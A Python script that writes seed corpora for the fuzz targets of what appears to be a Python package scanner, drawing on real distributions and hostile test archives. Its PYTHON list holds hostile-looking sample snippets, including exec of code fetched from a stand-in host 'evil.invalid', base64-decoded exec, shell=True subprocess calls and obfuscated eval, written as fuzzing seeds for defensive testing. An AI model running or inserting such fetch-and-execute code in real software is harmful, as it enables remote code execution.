#!/usr/bin/env python3
"""Writes the seed corpora of the fuzz targets into DEST (default fuzz/corpus): real filenames
and metadata from shared/fixtures/pep740, the hostile archives of tests/e2e/archive_oracle.py
and the real distributions (each prefixed with the byte that tells fuzz_targets/archive.rs how
to present it), and the Python files inside the real distributions. Only reads and writes
files: nothing is extracted to disk, installed or run."""

from __future__ import annotations

import hashlib
import io
import os
import sys
import tarfile
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "tests" / "e2e"))
import archive_oracle  # noqa: E402

FIXTURES = Path(os.environ.get("PALISADE_FIXTURES", HERE.parents[1] / "shared" / "fixtures" / "pep740"))
if not FIXTURES.is_dir():
    FIXTURES = Path("/work/shared/fixtures/pep740")

PYTHON = [
    b"import os\nos.system('echo hi')\n",
    b"import base64 as b\nexec(b.b64decode('cHJpbnQoMSk='))\n",
    b"from urllib.request import urlopen\nexec(urlopen('http://evil.invalid/x').read())\n",
    b"def f(cmd):\n    import subprocess\n    subprocess.Popen(cmd, shell=True)\nf('id')\n",
    b"import threading\nthreading.Thread(target=lambda: __import__('os').system('x')).start()\n",
    b"class A:\n    x = [i for i in range(3)]\n    def m(self): return getattr(__builtins__, 'ev'+'al')('1')\n",
]


def put(folder: Path, data: bytes) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / hashlib.sha1(data).hexdigest()).write_bytes(data)


def main() -> None:
    dest = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE / "corpus"
    dists = sorted(p for p in FIXTURES.iterdir() if p.name.endswith((".whl", ".tar.gz")))
    for p in dists:
        put(dest / "filename", p.name.encode())
    for name in ["demo-1.0-py3-none-any.whl", "Foo.Bar-1.0+local.1-py2.py3-none-any.whl", "x-1.0-1-cp311-cp311-manylinux2014_x86_64.whl",
                 "zope_interface-5.0.tar.gz", "demo-1.0.tar.gz", "a-2!1.0.post1.dev3-py3-none-any.whl"]:
        put(dest / "filename", name.encode())
    for p in dists:
        data = p.read_bytes()
        # archive target: 0 = bytes as a wheel, 2 = bytes as .tar.gz; 1 wraps a raw tar in gzip.
        put(dest / "archive", (b"\x00" if p.name.endswith(".whl") else b"\x02") + data)
        if p.name.endswith(".whl"):
            with zipfile.ZipFile(p) as zf:
                for n in zf.namelist():
                    if n.endswith("/METADATA"):
                        put(dest / "metadata", zf.read(n))
                    elif n.endswith(".py"):
                        put(dest / "python", zf.read(n)[:64 << 10])
        else:
            with tarfile.open(p) as tf:
                for m in tf.getmembers():
                    f = tf.extractfile(m) if m.isfile() else None
                    if f is None:
                        continue
                    if m.name.endswith("/PKG-INFO"):
                        put(dest / "metadata", f.read())
                    elif m.name.endswith(".py"):
                        put(dest / "python", f.read()[:64 << 10])
    for name, data in archive_oracle.hostile_archives().items():
        if name.endswith(".whl"):
            put(dest / "archive", b"\x00" + data)
        elif name.endswith(".tar"):
            put(dest / "archive", b"\x03" + data)
        elif name.endswith(".tar.gz"):
            put(dest / "archive", b"\x02" + data)
            put(dest / "archive", b"\x01" + __import__("gzip").decompress(data))
    for src in PYTHON:
        put(dest / "python", src)
    put(dest / "metadata", archive_oracle.PKG_INFO)
    for target in ("filename", "metadata", "archive", "python"):
        print(f"{target}: {len(list((dest / target).iterdir()))} seeds")


if __name__ == "__main__":
    main()
